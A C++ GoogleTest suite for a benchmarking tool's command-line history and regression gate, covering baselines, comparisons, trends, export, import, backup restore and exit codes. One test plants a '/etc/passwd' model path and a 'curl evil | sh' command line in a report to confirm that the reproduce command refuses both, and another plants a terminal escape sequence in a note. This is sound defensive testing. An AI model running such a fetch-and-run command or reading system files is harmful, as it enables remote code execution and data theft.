// History and gate from the command line: compare, trend, export, import, keep, reproduce, exit codes of the
// gate.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <nlohmann/json.hpp>
#include <sstream>

#include "app/cli_fixture.h"

namespace wide::cli {
namespace {

using nlohmann::json;
using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

class HistoryCli : public CliFixture {
 protected:
  void SetUp() override {
    CliFixture::SetUp();
    ::unsetenv("GITHUB_STEP_SUMMARY");
    write_preset("p.json", {2, 4, 8, 16, 32}, {"mlp", "deep_mlp"});
  }
  void TearDown() override {
    ::unsetenv("FAKE_SLOW");
    ::unsetenv("FAKE_UNSTEADY");
    ::unsetenv("FAKE_AGAIN");
    ::unsetenv("FAKE_PLANNING_DIES");
    ::unsetenv("FAKE_PLAN");
    ::unsetenv("FAKE_SEEN");
    ::unsetenv("GITHUB_STEP_SUMMARY");
    CliFixture::TearDown();
  }

  void write_preset(const std::string& file, const std::vector<int>& n,
                    const std::vector<std::string>& subjects) {
    json cases = json::array();
    for (const auto& subject : subjects) {
      const bool zoo = subject == "mlp" || subject == "deep_mlp" || subject == "slow";
      cases.push_back(
          {{"subject", subject}, {"kind", zoo ? "zoo" : "primitive"}, {"shape", {{"batch", 3}}}, {"n", n}});
    }
    std::ofstream(path(file)) << json{
        {"schema_version", 1}, {"name", "mine"}, {"timeout_seconds", 20}, {"cases", cases}};
  }

  Ran run(std::vector<std::string> arguments) {
    if (!arguments.empty()) arguments.insert(arguments.end(), {"--db", path("r.db")});
    return run_words(arguments);
  }
  Ran sweep(std::vector<std::string> more = {}, const std::string& preset = "p.json") {
    more.insert(more.begin(), {"--preset", path(preset)});
    return run(more);
  }
  std::string text_of(const std::string& name) const {
    std::ifstream file(path(name), std::ios::binary);
    return {std::istreambuf_iterator<char>(file), {}};
  }
};

TEST_F(HistoryCli, TheGatePassesWhatIsTheSame) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  const auto ran = sweep({"--baseline", "main"});
  EXPECT_EQ(ran.code, 0) << ran.out << ran.err;
  EXPECT_THAT(ran.out, HasSubstr("gate: passed: 10 cases"));
}

TEST_F(HistoryCli, ARegressionIsMeasuredAgainAndIsCode1) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  ::setenv("FAKE_SLOW", "1.2", 1);
  ::setenv("GITHUB_STEP_SUMMARY", path("summary.md").c_str(), 1);
  const auto ran = sweep({"--baseline", "main", "--json", path("gated.json")});
  EXPECT_EQ(ran.code, 1) << ran.out << ran.err;
  const auto gate = json::parse(text_of("gated.json")).at("gate");
  EXPECT_EQ(gate.at("verdict"), "regressed");
  EXPECT_EQ(gate.at("slower").size(), 10u);
  EXPECT_THAT(ran.out, AllOf(HasSubstr("gate: regressed"), HasSubstr("10 slower"), HasSubstr("+20.0 %")));
  EXPECT_THAT(ran.err, HasSubstr("10 alerts are measured again"));
  EXPECT_THAT(text_of("summary.md"), AllOf(HasSubstr("## gate: regressed"), HasSubstr("| slower |")));
  // The fresh measurements are stored under the run; latest still means the run itself.
  const auto listed = json::parse(run({"runs", "list", "--json"}).out);
  ASSERT_EQ(listed.size(), 4u + 6u);
  EXPECT_EQ(listed.at(4).at("parent"), 4);
  EXPECT_EQ(json::parse(run({"runs", "show", "latest", "--json"}).out).at("cases").size(), 10u);
  EXPECT_THAT(run({"runs", "delete", "4"}).out, HasSubstr("deleted run 4, 5, 6, 7, 8, 9, 10\n"));
}

TEST_F(HistoryCli, ABadPlanThatIsKeptIsNoRegression) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  std::ofstream(path("costs.tsv")) << "a bad time\n";
  ::setenv("FAKE_PLAN", path("costs.tsv").c_str(), 1);
  ::setenv("FAKE_SLOW", "1.2", 1);
  const auto ran = sweep({"--baseline", "main"});
  EXPECT_EQ(ran.code, 0) << ran.out << ran.err;
  EXPECT_THAT(ran.err, HasSubstr("10 alerts are measured again"));
  EXPECT_THAT(ran.out, AllOf(HasSubstr("gate: passed"), HasSubstr(" 0 slower")));
}

TEST_F(HistoryCli, WhatDiesWhilePlannedAnewCouldNotBeMeasuredAgain) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  std::ofstream(path("costs.tsv")) << "a bad time\n";
  ::setenv("FAKE_PLAN", path("costs.tsv").c_str(), 1);
  ::setenv("FAKE_SLOW", "1.2", 1);
  ::setenv("FAKE_PLANNING_DIES", "1", 1);
  const auto ran = sweep({"--baseline", "main"});
  EXPECT_EQ(ran.code, 3) << ran.out << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("BROKEN"), HasSubstr("10 not measured again")));
}

TEST_F(HistoryCli, ASummaryThatCannotBeWrittenHidesNoVerdict) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  const auto early = sweep({"--baseline", "main", "--summary", path("nowhere/s.md")});
  EXPECT_EQ(early.code, 2);
  EXPECT_EQ(early.out, "") << "before anything is measured";
  EXPECT_EQ(sweep({"--baseline", "main", "--summary", "/dev/full"}).code, 2);
  ::setenv("FAKE_SLOW", "1.2", 1);
  const auto ran = sweep({"--baseline", "main", "--summary", "/dev/full"});
  EXPECT_EQ(ran.code, 1) << ran.err;
  EXPECT_THAT(ran.err, HasSubstr("the summary cannot be written"));
}

TEST_F(HistoryCli, AProgramThatCannotBeStartedIsNoBaselineProgram) {
  ASSERT_EQ(sweep({"--save-baseline", "main"}).code, 0);
  std::ofstream(path("old")) << "no program\n";
  for (const auto& file : {path("old"), path("r.db"), std::string("/dev/null")}) {
    const auto ran = sweep({"--baseline", "main", "--baseline-program", file});
    EXPECT_EQ(ran.code, 2) << file;
    EXPECT_THAT(ran.err, HasSubstr("cannot be executed; make it so (chmod +x), or name another"));
  }
}

TEST_F(HistoryCli, AnotherProgramIsNoBaselineProgram) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  ::setenv("FAKE_SLOW", "1.2", 1);
  const auto ran = sweep({"--baseline", "main", "--baseline-program", "/bin/false"});
  EXPECT_EQ(ran.code, 3) << ran.out << ran.err;
  EXPECT_THAT(ran.err, HasSubstr("/bin/false: --baseline-program measured no case"));
}

TEST_F(HistoryCli, ABaselineMeasuresItsUnsteadyCasesAgain) {
  ::setenv("FAKE_UNSTEADY", "16", 1);
  const auto ran = sweep({"--repeat", "3", "--save-baseline", "main", "--baseline-repeats", "6"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.err, HasSubstr("4 cases differ much between processes"));
  const auto listed = json::parse(run({"runs", "list", "--json"}).out);
  ASSERT_EQ(listed.size(), 6u);
  for (const int more : {3, 4, 5}) EXPECT_EQ(listed.at(more).at("parent"), 3);
  for (const auto& entry : listed) EXPECT_EQ(entry.at("baselines"), json{"main"});
  EXPECT_EQ(json::parse(run({"runs", "show", "6", "--json"}).out).at("cases").size(), 4u);
  EXPECT_EQ(json::parse(run({"runs", "show", "latest", "--json"}).out).at("cases").size(), 10u);
  EXPECT_EQ(sweep({"--baseline-repeats", "6"}).code, 2) << "there is no baseline to save";
}

TEST_F(HistoryCli, AnAlertThatIsNotMeasuredAgainIsUndecided) {
  ASSERT_EQ(sweep({"--save-baseline", "main"}).code, 0);
  ::setenv("FAKE_SLOW", "1.2", 1);
  const auto ran = sweep({"--baseline", "main", "--gate-repeats", "0"});
  EXPECT_EQ(ran.code, 0);
  EXPECT_THAT(ran.out, HasSubstr(" 0 measured again"));
  EXPECT_EQ(sweep({"--baseline", "main", "--gate-repeats", "0", "--fail-inconclusive"}).code, 4);
}

TEST_F(HistoryCli, AMissingCaseIsCode1) {
  ASSERT_EQ(sweep({"--repeat", "2", "--save-baseline", "main"}).code, 0);
  write_preset("fewer.json", {2, 4, 8, 16}, {"mlp", "deep_mlp"});
  // What the gate did not pass takes no baseline's place.
  const auto ran = sweep({"--baseline", "main", "--save-baseline", "main"}, "fewer.json");
  EXPECT_EQ(ran.code, 1);
  EXPECT_THAT(ran.out, HasSubstr("MISSING"));
  EXPECT_THAT(ran.err, HasSubstr("the baseline main is not saved: the gate says regressed"));
  EXPECT_EQ(sweep({"--baseline", "main"}, "fewer.json").code, 1);
  const auto whole = sweep({"--baseline", "main", "--save-baseline", "main"});
  EXPECT_EQ(whole.code, 0) << whole.err;
  EXPECT_THAT(run({"runs", "list"}).out, HasSubstr("main"));
}

TEST_F(HistoryCli, WrongNumbersGoBeforeARegressionAndThatBeforeWhatCouldNotBeMeasured) {
  write_preset("mixed.json", {2, 4, 8, 16, 32}, {"mlp", "crash"});
  ASSERT_EQ(sweep({"--save-baseline", "main"}).code, 0);
  EXPECT_EQ(sweep({"--baseline", "main"}, "mixed.json").code, 1);  // deep_mlp is missing
  write_preset("wrong.json", {2}, {"mlp", "fail"});
  EXPECT_EQ(sweep({"--baseline", "main"}, "wrong.json").code, 5);
  ASSERT_EQ(sweep({"--save-baseline", "crashes"}, "mixed.json").code, 3);
  EXPECT_EQ(sweep({"--baseline", "crashes"}, "mixed.json").code, 3);
}

// Whatever made an alert be measured again, what that finds is told: it never ends green.
TEST_F(HistoryCli, WhatGoesWrongWhenMeasuredAgainIsTold) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  ::setenv("FAKE_SLOW", "1.2", 1);
  ::setenv("FAKE_SEEN", path("seen").c_str(), 1);
  for (const auto& [deed, code, said] : {std::tuple{"fail", 5, "WRONG "}, {"crash", 3, "BROKEN"}}) {
    std::filesystem::remove(path("seen"));
    ::setenv("FAKE_AGAIN", deed, 1);
    const auto ran = sweep({"--baseline", "main"});
    EXPECT_EQ(ran.code, code) << ran.out << ran.err;
    EXPECT_THAT(ran.out, AllOf(HasSubstr(said + std::string("     deep_mlp/n=16/"))));
  }
  EXPECT_THAT(run({"runs", "list"}).out, HasSubstr("measured-again"));
}

TEST_F(HistoryCli, NoBaselineIsMadeOfNothing) {
  write_preset("crashes.json", {2}, {"crash"});
  auto ran = sweep({"--save-baseline", "main"}, "crashes.json");
  EXPECT_EQ(ran.code, 3);
  EXPECT_THAT(ran.err, HasSubstr("the baseline main is not saved: no case passed"));
  EXPECT_THAT(run({"runs", "list"}).out, Not(HasSubstr("baseline:")));
  ran = run({"runs", "pin", "latest", "--as", "main"});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, HasSubstr("no case of the runs passed"));
}

TEST_F(HistoryCli, NoBaselineIsMadeOfWrongNumbers) {
  write_preset("wrong.json", {2}, {"mlp", "fail"});
  auto ran = sweep({"--repeat", "2", "--save-baseline", "main"}, "wrong.json");
  EXPECT_EQ(ran.code, 5);
  EXPECT_THAT(ran.err,
              AllOf(HasSubstr("the baseline main is not saved"), HasSubstr("wrong numbers in fail/")));
  EXPECT_THAT(run({"runs", "list"}).out, Not(HasSubstr("baseline:")));
  ran = run({"runs", "pin", "latest", "--as", "main"});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, HasSubstr("wrong numbers in 'fail/"));
  ran = sweep({"--baseline", "1"});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, AllOf(HasSubstr("wrong numbers"), Not(HasSubstr("[1/")))) << "found before measuring";
}

TEST_F(HistoryCli, WrongNumbersMeasuredInTurnsAreCode5) {
  write_preset("wrong.json", {2}, {"mlp", "fail"});
  ASSERT_EQ(sweep({}, "wrong.json").code, 5);
  EXPECT_EQ(run({"runs", "compare", "latest", "latest", "--re-measure", "--repeats", "1"}).code, 5);
  const auto ran = run({"gate", "--self-test", "--trials", "4", "--preset", path("wrong.json"),
                        "--baseline-runs", "2", "--gate-repeats", "2"});
  EXPECT_EQ(ran.code, 5);
  EXPECT_THAT(ran.err, HasSubstr("wrong numbers were computed in fail/"));
}

TEST_F(HistoryCli, AGateThatCannotWorkIsFoundBeforeMeasuring) {
  ASSERT_EQ(sweep({"--save-baseline", "main"}).code, 0);
  auto report = json::parse(run({"runs", "export", "latest", "-o", "-"}).out);
  report["machine"]["cpu"] = "Other";
  std::ofstream(path("other.json")) << report;
  for (const std::vector<std::string>& options : {std::vector<std::string>{"--baseline", "nonsense"},
                                                  {"--baseline", "99"},
                                                  {"--baseline", path("none.json")},
                                                  {"--baseline", path("other.json")},
                                                  {"--save-baseline", "latest"},
                                                  {"--fail-inconclusive"}}) {
    const auto ran = sweep(options);
    EXPECT_EQ(ran.code, 2) << options[0];
    EXPECT_THAT(ran.err, Not(HasSubstr("[1/"))) << options[0];
  }
  EXPECT_EQ(sweep({"--baseline", path("other.json"), "--across-machines"}).code, 0);
}

TEST_F(HistoryCli, ComparesRunsBaselinesAndFiles) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  ::setenv("FAKE_SLOW", "1.3", 1);
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "slow"}).code, 0);
  auto ran = run({"runs", "compare", "main", "slow"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("10 slower"), HasSubstr("geometric mean of the change: +30.0 %")));
  ASSERT_EQ(run({"runs", "export", "1", "-o", path("one.json")}).code, 0);
  const auto seen = json::parse(run({"runs", "compare", path("one.json"), "latest", "--json"}).out);
  EXPECT_EQ(seen.at("cases").size(), 10u);
  EXPECT_THAT(seen.at("remarks").dump(), HasSubstr("imported: a claim"));
  EXPECT_EQ(json::parse(run({"runs", "compare", "1", "latest~1", "latest", "--json"}).out).size(), 2u);
  EXPECT_THAT(run({"runs", "compare", "main", "slow", "--markdown"}).out, HasSubstr("| slower |"));
  EXPECT_EQ(run({"runs", "compare", "main"}).code, 2);
  EXPECT_EQ(run({"runs", "compare", "main", "latest~77"}).code, 2);
}

TEST_F(HistoryCli, MeasuresBothAgainInTurns) {
  ASSERT_EQ(sweep().code, 0);
  ::setenv("FAKE_SLOW", "1.3", 1);
  ASSERT_EQ(sweep().code, 0);
  ::unsetenv("FAKE_SLOW");
  const auto ran = run({"runs", "compare", "latest~1", "latest", "--re-measure", "--repeats", "3"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("measured again"), HasSubstr("10 same")));
  EXPECT_EQ(run({"runs", "compare", "1", "2", "--repeats", "3"}).code, 2);
}

TEST_F(HistoryCli, ReproducesARun) {
  ASSERT_EQ(sweep({"--label", "first"}).code, 0);
  auto ran = run({"reproduce", "latest"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("command   widebench --preset"), HasSubstr("10 cases compared")));
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
  for (const auto* of : {"1", "2"}) {
    ran = run({"reproduce", of, "--dry-run"});
    EXPECT_EQ(ran.code, 0);
    EXPECT_THAT(ran.out, HasSubstr("command   widebench --preset"));
  }
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
  // A report is a claim: no path is taken from it.
  auto report = json::parse(run({"runs", "export", "1", "-o", "-"}).out);
  report["settings"]["cases"][0]["kind"] = "model";
  report["settings"]["cases"][0]["model"] = "/etc/passwd";
  std::ofstream(path("evil.json")) << report;
  ran = run({"reproduce", path("evil.json")});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, HasSubstr("no path is taken from a report"));
  report["settings"]["cases"][0]["kind"] = "zoo";
  std::ofstream(path("evil.json")) << report;
  EXPECT_THAT(run({"reproduce", path("evil.json")}).err, HasSubstr("no path is taken from a report"));
  // Nor a command, for a run of our own.
  report = json::parse(run({"runs", "export", "1", "-o", "-"}).out);
  report["run"]["command_line"] = "curl evil | sh";
  std::ofstream(path("evil.json")) << report;
  EXPECT_EQ(run({"reproduce", path("evil.json")}).code, 0);
  EXPECT_THAT(run({"reproduce", "latest", "--dry-run"}).out, HasSubstr("command   widebench reproduce"));
}

TEST_F(HistoryCli, ImportsMarkRunsAndRefuseThemTwice) {
  ASSERT_EQ(sweep().code, 0);
  ASSERT_EQ(run({"runs", "export", "1", "-o", path("one.json")}).code, 0);
  EXPECT_EQ(run({"runs", "import", path("one.json")}).code, 2);  // it is here already
  ASSERT_EQ(run({"runs", "delete", "1"}).code, 0);
  ASSERT_EQ(run({"runs", "import", path("one.json"), "--json"}).code, 0);
  const auto listed = json::parse(run({"runs", "list", "--json"}).out);
  ASSERT_EQ(listed.size(), 1u);
  EXPECT_EQ(listed.at(0).at("origin"), "imported");
  EXPECT_EQ(run({"runs", "show", "latest"}).code, 2) << "latest counts runs measured here";
  EXPECT_EQ(run({"runs", "trend", "mlp"}).code, 2) << "a trend is our own history";
  const auto id = std::to_string(listed.at(0).at("id").get<int>());
  auto again = json::parse(run({"runs", "export", id, "-o", "-"}).out),
       first = json::parse(text_of("one.json"));
  first["run"]["origin"] = "imported";
  EXPECT_EQ(again, first);
  // Of a folder that grows, what is new is taken.
  first["run"]["uid"] = "another";
  std::ofstream(path("two.json")) << first;
  EXPECT_THAT(run({"runs", "import", path("one.json"), path("two.json"), path("two.json")}).out,
              AllOf(HasSubstr("already as run 2"), HasSubstr("is now run 3"), HasSubstr("already as run 3")));
}

TEST_F(HistoryCli, PutsABackupBackAsTheMessageAboutDamageSays) {
  ASSERT_EQ(sweep().code, 0);
  EXPECT_EQ(run({"runs", "restore", path("none.bak")}).code, 2);
  ASSERT_EQ(sweep().code, 0);  // the backup holds two runs now
  ASSERT_EQ(run({"runs", "delete", "1"}).code, 0);
  auto ran = run({"runs", "restore", path("r.db.bak"), "--json"});
  ASSERT_EQ(ran.code, 0) << ran.err;
  EXPECT_EQ(json::parse(ran.out).at("runs"), 2);
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
  std::filesystem::resize_file(path("r.db"), 9000);
  ran = run({"runs", "list"});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, HasSubstr("widebench runs restore " + path("r.db.bak") + " --db " + path("r.db")));
  ran = run({"runs", "restore", path("r.db.bak")});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("2 runs, 20 cases"), HasSubstr("kept as " + path("r.db.replaced-2"))));
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
}

TEST_F(HistoryCli, WritesEveryFormat) {
  ASSERT_EQ(sweep().code, 0);
  const std::map<std::string, std::string> begins = {{"a.csv", "run,started"}, {"a.md", "## Widebench run"},
                                                     {"a.xml", "<?xml"},       {"a.html", "<!doctype html>"},
                                                     {"a.svg", "<svg"},        {"a.json", "{"}};
  for (const auto& [file, begin] : begins) {
    ASSERT_EQ(run({"runs", "export", "latest", "-o", path(file)}).code, 0) << file;
    EXPECT_EQ(text_of(file).find(begin), 0u) << file;
  }
  EXPECT_EQ(json::parse(run({"runs", "export", "1", "-o", "-", "--format", "github"}).out).size(), 10u);
  EXPECT_EQ(json::parse(run({"runs", "export", "1", "-o", "-", "--format", "bencher"}).out).size(), 10u);
}

TEST_F(HistoryCli, KeepsNamesTagsAndNotes) {
  ASSERT_EQ(sweep({"--repeat", "4"}).code, 0);
  EXPECT_EQ(run({"runs", "pin", "1", "2", "1", "--as", "main"}).out, "baseline main is now run 1, 2\n");
  EXPECT_EQ(run({"runs", "pin", "1", "--as", "12"}).code, 2);
  EXPECT_EQ(run({"runs", "tag", "latest", "nightly", "arm"}).code, 0);
  EXPECT_EQ(run({"runs", "note", "latest", "\x1b[31mred"}).code, 0);
  auto shown = run({"runs", "list"}).out;
  EXPECT_THAT(shown, AllOf(HasSubstr("baseline:main"), HasSubstr("#nightly")));
  EXPECT_EQ(json::parse(run({"runs", "list", "--tag", "arm", "--json"}).out).size(), 1u);
  shown = run({"runs", "show", "latest"}).out;
  EXPECT_THAT(shown, AllOf(HasSubstr("[31mred"), Not(HasSubstr("\x1b"))));
  EXPECT_EQ(run({"runs", "delete", "main"}).code, 2);
  EXPECT_EQ(run({"runs", "prune", "--keep", "1"}).code, 0);
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 3u);
  EXPECT_EQ(run({"runs", "unpin", "main"}).code, 0);
  EXPECT_EQ(run({"runs", "delete", "1", "2"}).code, 0);
  EXPECT_EQ(run({"runs", "tag", "latest", "none", "--remove"}).code, 2);
}

TEST_F(HistoryCli, ShowsTrends) {
  ASSERT_EQ(sweep({"--repeat", "4"}).code, 0);
  ::setenv("FAKE_SLOW", "2", 1);
  ASSERT_EQ(sweep({"--repeat", "4"}).code, 0);
  const auto seen = json::parse(run({"runs", "trend", "mlp", "--json"}).out);
  ASSERT_EQ(seen.at("series").size(), 5u);
  EXPECT_EQ(seen.at("series")[0].at("points").size(), 8u);
  EXPECT_EQ(seen.at("series")[0].at("change_points"), json{4});
  EXPECT_THAT(run({"runs", "trend", "mlp"}).out, HasSubstr("<- change point"));
}

TEST_F(HistoryCli, TheGateTestsItself) {
  auto ran = run({"gate", "--self-test", "--trials", "6", "--cases", "24", "--json"});
  EXPECT_EQ(ran.code, 0) << ran.out << ran.err;
  EXPECT_EQ(json::parse(ran.out).at("simulated noise").at("rows").size(), 5u);
  EXPECT_THAT(ran.err, HasSubstr("10 % slower: found"));
  EXPECT_EQ(run({"gate"}).code, 2);
  ran = run({"gate", "--self-test", "--trials", "4", "--preset", path("p.json"), "--baseline-runs", "2",
             "--gate-repeats", "2", "--busy", "1"});
  EXPECT_THAT(ran.out,
              AllOf(HasSubstr("real measurements\n"), HasSubstr("real measurements beside 1 busy loops\n")))
      << ran.err;
  EXPECT_EQ(run({"gate", "--self-test", "--busy", "1"}).code, 2) << "beside what?";
}

}  // namespace
}  // namespace wide::cli
